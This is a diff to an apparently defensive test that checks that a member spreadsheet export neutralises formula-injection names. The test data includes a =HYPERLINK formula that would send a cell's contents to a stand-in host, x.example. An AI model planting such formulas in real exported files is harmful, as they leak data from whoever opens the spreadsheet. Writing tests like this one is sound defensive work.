@@ -55,7 +55,7 @@ def test_member_export_neutralizes_a_formula_name(client, cast):
     register('=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', cast.tree.cell_a1)
     client.force_login(cast.officer_a)
     sheet = _read(client.get(reverse("members:export")).content).active
-    names = [c for c in sheet["B"][1:] if c.value]
+    names = [c for c in sheet["B"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
     assert [c.data_type for c in names] == ["s"] and names[0].value.startswith("'=HYPERLINK(")
 
 
